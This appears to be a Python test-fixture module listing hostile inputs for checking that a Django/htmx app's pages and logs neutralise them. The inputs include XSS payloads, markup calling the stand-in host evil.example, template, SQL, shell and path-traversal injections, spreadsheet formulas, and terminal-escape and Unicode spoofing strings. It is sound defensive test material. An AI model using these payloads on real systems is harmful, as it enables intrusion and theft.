"""What somebody might write who wants a page, a log or a reader to do their bidding.

Every text comes with what a page has to show for it, written by hand: mostly the text itself. A
payload that runs calls `canary`, opens a dialog, or asks another host.
"""

from collections.abc import Iterator
from dataclasses import dataclass


@dataclass(frozen=True)
class Text:
    """`shown` by pages; `logged` where a log line, with its terminal sequences, is shown."""

    text: str
    shown: str
    logged: str

    @property
    def stored(self) -> str:
        """In the record: what no database or socket takes is replaced."""
        return "".join("\ufffd" if c == "\0" or "\ud800" <= c <= "\udfff" else c for c in self.text)


def plain(*texts: str) -> list[Text]:
    return [Text(text, text, text) for text in texts]


def marked(text: str, shown: str, logged: str | None = None) -> Text:
    return Text(text, shown, shown if logged is None else logged)


ELEMENTS = plain(
    "<script>canary(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert(document.domain)</script >",
    "<script/x>canary(2)</script>",
    "<script\n>canary(3)</script>",
    "<script type=module>canary(4)</script>",
    "<script type=module src=data:text/javascript,canary(5)></script>",
    "<script nonce=abc>canary(6)</script>",
    "</script><script>canary(7)</script>",
    "<scr<script>ipt>canary(8)</scr</script>ipt>",
    "<<script>canary(9);//<</script>",
    "<img src=x onerror=canary(10)>",
    "<img/src=x/onerror=canary(11)>",
    "<IMG SRC=\"x\" ONERROR='canary(12)'>",
    "<img src=//evil.example/pixel.gif>",
    "<img src='data:image/svg+xml,<svg onload=canary(13)>'>",
    "<img srcset=//evil.example/1x>",
    "<image src=x onerror=canary(14)>",
    "<svg onload=canary(15)>",
    "<svg/onload=canary(16)//",
    "<svg><script>canary(17)</script></svg>",
    "<svg><script href=data:,canary(18) /></svg>",
    "<svg><a href=javascript:canary(19)><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=canary(20) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:canary(21)></svg>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zz4=#x></svg>",
    "<svg><foreignObject><iframe onload=canary(22)></foreignObject></svg>",
    "<math><mtext><script>canary(23)</script></mtext></math>",
    "<math href=javascript:canary(24)>x</math>",
    "<iframe src=javascript:canary(25)></iframe>",
    '<iframe srcdoc="<script>parent.canary(26)</script>"></iframe>',
    "<iframe src=//evil.example/></iframe>",
    "<frameset onload=canary(27)>",
    "<object data=javascript:canary(28)></object>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=javascript:canary(29)>",
    "<applet code=Canary></applet>",
    "<body onload=canary(30)>",
    "<html onmouseover=canary(31)>",
    "<input autofocus onfocus=canary(32)>",
    "<select autofocus onfocus=canary(33)><option>x</select>",
    "<textarea autofocus onfocus=canary(34)></textarea>",
    "<button formaction=javascript:canary(35)>x</button>",
    "<form action=//evil.example/><input name=csrfmiddlewaretoken></form>",
    "<form id=x></form><button form=x formaction=javascript:canary(36)>x</button>",
    "<details open ontoggle=canary(37)>",
    "<video src=x onerror=canary(38)></video>",
    "<video><source onerror=canary(39)></video>",
    "<audio src=x onerror=canary(40)>",
    "<marquee onstart=canary(41)>x</marquee>",
    "<keygen autofocus onfocus=canary(42)>",
    "<isindex action=javascript:canary(43) type=image>",
    "<div onpointerrawupdate=canary(44)>x</div>",
    "<x onclick=canary(45) tabindex=1 id=x>x</x>",
    "<p popover id=p onbeforetoggle=canary(46)></p><button popovertarget=p>x</button>",
    "<style onload=canary(47)></style>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=canary(48)>x</b>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=preload as=script href=//evil.example/x.js>",
    "<link rel=dns-prefetch href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:canary(49)'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<base href=//evil.example/>",
    "<a href=javascript:canary(50)>x</a>",
    "<a href=JaVaScRiPt:canary(51)>x</a>",
    "<a href=&#106;avascript:canary(52)>x</a>",
    "<a href=data:text/html,<script>canary(53)</script>>x</a>",
    "<a href=//evil.example target=_blank>x</a>",
    "<a ping=//evil.example/ href=/>x</a>",
    "<table background=//evil.example/x>",
    "<plaintext>",
    "<xmp><script>canary(54)</script></xmp>",
    "<dialog open>Your session has ended</dialog>",
    "<h1>Everything is fine</h1>",
    "<template><script>canary(55)</script></template>",
    "<template shadowrootmode=open><script>canary(56)</script></template>",
    "<portal src=//evil.example></portal>",
    "<b>bold</b><i>italic</i>",
    "< img src=x onerror=canary(57)>",
    "<img src=x onerror=canary(58)",
    "\u003cscript\u003ecanary(59)\u003c/script\u003e",
)

MUTATIONS = plain(
    '<noscript><p title="</noscript><img src=x onerror=canary(60)>">',
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=canary(61)&gt;">',
    '<svg></p><style><a id="</style><img src=1 onerror=canary(62)>">',
    "<form><math><mtext></form><form><mglyph><svg><mtext>"
    "<style><path id=</style><img onerror=canary(63) src>",
    '<svg><style><img src="</style><img src=x onerror=canary(64)>">',
    "<math><annotation-xml encoding=text/html><script>canary(65)</script></annotation-xml></math>",
    "<table><td><svg><title><td><img src=x onerror=canary(66)></title></svg>",
    "<a><svg><desc><a id=x><b><s><img src=x onerror=canary(67)></desc></svg>",
    "<option><style></option></select><img src=x onerror=canary(68)></style>",
    '<img alt="`><img src=x onerror=canary(69)>">',
    "`'\"><img src=x onerror=canary(70)>",
    '<listing>&lt;img onerror="canary(71)" src=x&gt;</listing>',
    "<![CDATA[<img src=x onerror=canary(72)>]]>",
    "<?xml version='1.0'?><script>canary(73)</script>",
    "<?php echo 1 ?>",
    "<%= 7 * 7 %>",
    "<!DOCTYPE html><!ENTITY x 'canary(74)'>",
    "<!--><img src=x onerror=canary(75)>-->",
    "<!-- x --!><img src=x onerror=canary(76)>",
    "--><script>canary(77)</script><!--",
    "<!--[if gte IE 4]><script>canary(78)</script><![endif]-->",
    "</title><script>canary(79)</script>",
    "</textarea><script>canary(80)</script>",
    "</style><script>canary(81)</script>",
    "</noscript><script>canary(82)</script>",
    "</template><script>canary(83)</script>",
    "</option></select><script>canary(84)</script>",
    "</pre></li></ol></main></body></html>",
    "</span></li><li data-line=1 data-level=success><span>Everything is fine</span></li>",
    "</td></tr></table><img src=x onerror=canary(85)>",
    "&lt;script&gt;canary(86)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=canary(87)&amp;gt;",
    "&#60;img src=x onerror=canary(88)&#62;",
    "&#x3c;svg/onload=canary(89)&#x3e;",
    "%3Cscript%3Ecanary(90)%3C/script%3E",
    "+ADw-script+AD4-canary(91)+ADw-/script+AD4-",
    "\\x3cscript\\x3ecanary(92)\\x3c/script\\x3e",
    "\\u003cscript\\u003ecanary(93)\\u003c/script\\u003e",
    "\uff1cscript\uff1ecanary(94)\uff1c/script\uff1e",
    "\u2039script\u203acanary(95)\u2039/script\u203a",
)

ATTRIBUTES = plain(
    '" onmouseover="canary(100)',
    "' onmouseover='canary(101)",
    '" autofocus onfocus="canary(102)" x="',
    "' autofocus onfocus=canary(103) x='",
    '"><script>canary(104)</script>',
    "'><svg onload=canary(105)>",
    "x onerror=canary(106) ",
    "` onmouseover=canary(107) `",
    '" style="position:fixed;inset:0;background:red',
    "red;background:url(//evil.example/x)",
    "expression(canary(108))",
    "};*{background:url(//evil.example/y)}",
    "@import url(//evil.example/x.css);",
    '</style><link rel=stylesheet href="//evil.example/z.css">',
    '" hidden="',
    '" id="content',
    '" name="attributes" id="attributes',
    '" dir="rtl',
    '" class="ansi-red" data-level="success',
    '" data-line="1" data-x="',
    'x" formaction="//evil.example/" type="submit',
    "javascript:canary(109)",
    "javascript://%0acanary(110)",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMTExKTwvc2NyaXB0Pg==",
    "vbscript:canary(112)",
    "//evil.example/",
    "/\\evil.example/",
    "https:evil.example",
    "http://127.0.0.1@evil.example/",
    "\\\\evil.example\\share",
)

THIS_SITE = plain(
    '<div hx-get="//evil.example/" hx-trigger="load">x</div>',
    '<div hx-get="/accounts/logout/" hx-trigger="load">x</div>',
    '<b hx-on:click="canary(120)" hx-trigger="load">x</b>',
    "<b hx-on::load=canary(121)>x</b>",
    "<b hx-vals='js:{a: canary(122)}' hx-get=/ hx-trigger=load>x</b>",
    '<div hx-trigger="load[canary(123)]" hx-get="/"></div>',
    "<div data-hx-get=/ data-hx-trigger=load></div>",
    "<div hx-ext=no-eval hx-swap-oob=true id=content></div>",
    "<hx-partial hx-target=body>gone</hx-partial>",
    '<meta name="htmx-config" content=\'{"selfRequestsOnly": false}\'>',
    '<live-operation state="RUNNING" data-liveop-socket="//evil.example/"></live-operation>',
    '<live-operation data-liveop-token-url="//evil.example/" data-liveop-csrf=x></live-operation>',
    '<live-list src="//evil.example/" interval="0.1"></live-list>',
    "<submit-once><form action=//evil.example/></form></submit-once>",
    '" data-liveop-token="stolen" data-x="',
    '" freshness="live" state="SUCCEEDED',
    '<ol data-liveop-part="log"><li data-line="99999999">x</li></ol>',
    '<p data-liveop-part="status">Succeeded</p>',
    "<div data-liveop-region id=extra>mine</div>",
    "<template data-liveop-words><span data-word=live>x</span></template>",
    "<button data-liveop-reload>x</button>",
    "{seconds} {count} {0} {x.__class__}",
    "%(count)s %(name)s %s %d %n %%",
    "$& $1 $` $' \\1 \\g<0>",
)

TEMPLATES = plain(
    "{{ 7|add:7 }}",
    "{{ request.user.password }}",
    "{{ settings.SECRET_KEY }}",
    "{{ operation.owner.password }}",
    "{% include 'admin/base.html' %}",
    "{% load static %}{% static 'x' %}",
    "{% debug %}",
    "{% extends '/etc/passwd' %}",
    "{% autoescape off %}<script>canary(130)</script>{% endautoescape %}",
    "{# comment #}",
    "{% endblock %}{% endif %}{% endfor %}",
    "{{",
    "%}",
    "{{ '<script>canary(131)</script>'|safe }}",
    "{{constructor.constructor('canary(132)')()}}",
    "${7*7} #{7*7} ${canary(133)}",
    "<%= canary(134) %>",
    "[[${7*7}]]",
    "@(7*7)",
)

DATA = plain(
    '{"type":"frame","seq":999999999,"state":"SUCCEEDED"}',
    '","seq":99999,"x":"',
    '\\","parts":{"status":"x"},"y":"',
    "</script><script>canary(140)</script>",
    "]]>",
    "'); canary(141); ('",
    '"-canary(142)-"',
    "\\'-canary(143)//",
    "`${canary(144)}`",
    "*/canary(145)/*",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "items",
    "operation",
    "0",
    "-1",
    "1e309",
    "NaN",
    "null",
    "undefined",
    "True",
    "' OR '1'='1",
    "'; DROP TABLE liveops_liveoperation; --",
    "1; SELECT pg_sleep(10)",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "CON",
    ".htaccess",
    "| cat /etc/passwd",
    "$(sleep 10)",
    '=HYPERLINK("//evil.example/","x")',
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)

LINES = [
    *plain(
        "first\nsecond",
        "2026-11-23 02:00:00,000 INFO    liveops.audit: signed in user=1 address=10.0.0.1",
        "x\n2026-11-23 02:00:00,000 INFO    liveops.audit: signed in user=1 address=10.0.0.1",
        "a\tb\tc",
        "operation=1 user=2 address=3",
        'x" user="1',
        "here\n\n\nfar below",
        "%0d%0aSet-Cookie: sessionid=stolen",
        "#fragment?query&x=1;y=2",
    ),
    marked("x\r\nSet-Cookie: sessionid=stolen", "x\nSet-Cookie: sessionid=stolen"),
    marked("x\r\n\r\n<script>canary(150)</script>", "x\n\n<script>canary(150)</script>"),
    marked("failed\rsucceeded", "failed[U+000D]succeeded"),
    marked("x\u2028canary(151)", "x[U+2028]canary(151)"),
    marked("x\u2029canary(152)", "x[U+2029]canary(152)"),
    marked("x\u0085y", "x[U+0085]y"),
    marked("x\x0by\x0cz", "x[U+000B]y[U+000C]z"),
    marked("rubbed out\x08\x08\x08", "rubbed out[U+0008][U+0008][U+0008]"),
    marked("bell\x07", "bell[U+0007]"),
    marked("\x1ax\x7f", "[U+001A]x[U+007F]"),
    marked("nul\x00byte", "nul\ufffdbyte"),
    marked("\x00", "\ufffd"),
    marked("<scr\x00ipt>canary(153)</script>", "<scr\ufffdipt>canary(153)</script>"),
    marked("lone \ud800 high", "lone \ufffd high"),
    marked("lone \udc00 low", "lone \ufffd low"),
    marked("\udfff\ud800", "\ufffd\ufffd"),
    marked("\uffff\ufffe\ufdd0", "[U+FFFF][U+FFFE][U+FDD0]"),
]

TERMINAL = [
    marked("\x1b[31mred\x1b[0m", "[U+001B][31mred[U+001B][0m", "red"),
    marked("\x1b[1;4;38;5;196mloud", "[U+001B][1;4;38;5;196mloud", "loud"),
    marked("\x1b[38;2;1;2;3mshade", "[U+001B][38;2;1;2;3mshade", "shade"),
    marked("\x1b[8mconcealed\x1b[28m", "[U+001B][8mconcealed[U+001B][28m", "concealed"),
    marked("\x1b[30;40mblack on black", "[U+001B][30;40mblack on black", "black on black"),
    marked("\x1b[2J\x1b[Hcleared", "[U+001B][2J[U+001B][Hcleared", "cleared"),
    marked("up\x1b[1A\x1b[2Kgone", "up[U+001B][1A[U+001B][2Kgone", "upgone"),
    marked("\x1b[?1049h\x1b[?25l.", "[U+001B][?1049h[U+001B][?25l.", "."),
    marked("\x1b]0;title\x07x", "[U+001B]]0;title[U+0007]x", "[U+001B]x"),
    marked(
        "\x1b]8;;javascript:canary(160)\x1b\\click\x1b]8;;\x1b\\",
        "[U+001B]]8;;javascript:canary(160)[U+001B]\\click[U+001B]]8;;[U+001B]\\",
        "[U+001B]click[U+001B]",
    ),
    marked("\x1b]8;;//evil.example/\x07x", "[U+001B]]8;;//evil.example/[U+0007]x", "[U+001B]x"),
    marked("\x1b]52;c;ZXZpbA==\x07", "[U+001B]]52;c;ZXZpbA==[U+0007]", "[U+001B]"),
    marked("\x1bP$q\x1b\\x", "[U+001B]P$q[U+001B]\\x", "[U+001B]x"),
    marked("\x1b_Gf=100;AAAA\x1b\\x", "[U+001B]_Gf=100;AAAA[U+001B]\\x", "[U+001B]x"),
    marked("\x1bcreset", "[U+001B]creset", "reset"),
    marked("never ends \x1b[", "never ends [U+001B]["),
    marked(
        "never ends \x1b]0;<script>canary(161)</script>",
        "never ends [U+001B]]0;<script>canary(161)</script>",
    ),
    marked("last\x1b", "last[U+001B]"),
    marked(
        "\x1b[31m<script>\x1b[32mcanary(162)</script>",
        "[U+001B][31m<script>[U+001B][32mcanary(162)</script>",
        "<script>canary(162)</script>",
    ),
    marked(
        '\x1b["><img src=x onerror=canary(163)>m', '[U+001B]["><img src=x onerror=canary(163)>m'
    ),
    marked(
        '\x1b[31;"onclick="canary(164)m',
        '[U+001B][31;"onclick="canary(164)m',
        'nclick="canary(164)m',
    ),
    marked(
        "<im\x1b[0mg src=x onerror=canary(165)>",
        "<im[U+001B][0mg src=x onerror=canary(165)>",
        "<img src=x onerror=canary(165)>",
    ),
    marked("\x9b31mred\x9b0m", "[U+009B]31mred[U+009B]0m"),
    marked("\x9d0;title\x9cx", "[U+009D]0;title[U+009C]x"),
    marked("\x1b[31m" * 60 + "x", ("[U+001B][31m" * 60) + "x", "x"),
]

UNSEEN = [
    marked("invoice\u202efdp.exe", "invoice[U+202E]fdp.exe"),
    marked("\u202dabc\u202c", "[U+202D]abc[U+202C]"),
    marked("a\u2066b\u2069c", "a[U+2066]b[U+2069]c"),
    marked("user\u2067 admin \u2069", "user[U+2067] admin [U+2069]"),
    marked("\u200etext\u200f", "[U+200E]text[U+200F]"),
    marked("\u061cx", "[U+061C]x"),
    marked("pay\u200bpal", "pay[U+200B]pal"),
    marked("pay\u200cpal\u200d", "pay[U+200C]pal[U+200D]"),
    marked("\ufeffx\u2060y\u00adz", "[U+FEFF]x[U+2060]y[U+00AD]z"),
    marked("x\u3164\u115f\uffa0y", "x[U+3164][U+115F][U+FFA0]y"),
    marked("hi\U000e0068\U000e0069", "hi[U+E0068][U+E0069]"),
    marked("a\ufe0fb\U000e0100c", "a[U+FE0F]b[U+E0100]c"),
    marked("x\u180e\u2064y", "x[U+180E][U+2064]y"),
    marked("<\u200bscript>canary(170)</script>", "<[U+200B]script>canary(170)</script>"),
    marked("java\u200bscript:canary(171)", "java[U+200B]script:canary(171)"),
    marked('"\u202e onfocus=canary(172) x="', '"[U+202E] onfocus=canary(172) x="'),
    marked("\u202e" * 60, "[U+202E]" * 60),
]

ORDINARY = plain(
    "\u0440\u0430\u0443\u0440\u0430l.example",
    "\u0251dmin \uff41\uff44\uff4d\uff49\uff4e \U0001d41a\U0001d41d\U0001d426\U0001d422\U0001d427",
    "\u13aapple \u2024 Inc",
    "שלום עולם",
    "مرحبا بالعالم",
    "می\u200cخوریم",
    "क्\u200dष ไทย 東京 한국어",
    "👩\u200d👩\u200d👧\u200d👦 ❤️\u200d🔥 🏳️\u200d🌈 1️⃣",
    "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "葛\U000e0100城",
    "e\u0301 A\u030a \u00c5",
    "Z" + "\u0310\u0353\u035d" * 20 + "algo",
    "\u0130\u0131\u017fK \u00df \ufb00",
    "😀" * 40,
    "O'Brien & Söhne <info@example.org>",
    '100 % of "it" \\ done',
    "x" * 119,
    "<" * 119,
    "&" * 119,
    "y" * 3_000,
)

# All of it in one line.
EVERYTHING = marked(
    "\x00\x1b[1;31m\u202e\ud800</li><script>canary(180)</script>\x9b\udfff\u200b\x1b]0;",
    "\ufffd[U+001B][1;31m[U+202E]\ufffd</li><script>canary(180)</script>[U+009B]\ufffd[U+200B]"
    "[U+001B]]0;",
    "\ufffd[U+202E]\ufffd</li><script>canary(180)</script>[U+009B]\ufffd[U+200B][U+001B]]0;",
)
# Too long for a page, and for a line of its own.
MEGABYTE = Text(
    "<b>" + "1234567890" * 100_000,
    "<b>" + ("1234567890" * 400)[:3_997] + "…",
    "<b>" + ("1234567890" * 400)[:3_997] + "… 996003 more characters",
)

TEXTS = [
    *(*ELEMENTS, *MUTATIONS, *ATTRIBUTES, *THIS_SITE, *TEMPLATES),
    *(*DATA, *LINES, *TERMINAL, *UNSEEN, *ORDINARY, EVERYTHING),
]

# What `p.html()` may be handed by an author who was careless; none of it may run.
MARKUP = [
    each.text for each in (*ELEMENTS, *MUTATIONS, *ATTRIBUTES, *THIS_SITE) if "<" in each.text
]

# Between two texts, and how long a page shows them, with how many marks.
HYPHENS = " -- "
MOST_TOGETHER = 3_900
MOST_MARKS = 100


def together(texts: list[Text], most: int = MOST_TOGETHER) -> Iterator[list[Text]]:
    """As many at a time as make at most so many characters; at least one."""
    chunk: list[Text] = []
    for each in texts:
        joined = HYPHENS.join(max(one.shown, one.stored, key=len) for one in [*chunk, each])
        if chunk and (len(joined) > most or joined.count("[U+") > MOST_MARKS):
            yield chunk
            chunk = []
        chunk.append(each)
    yield chunk
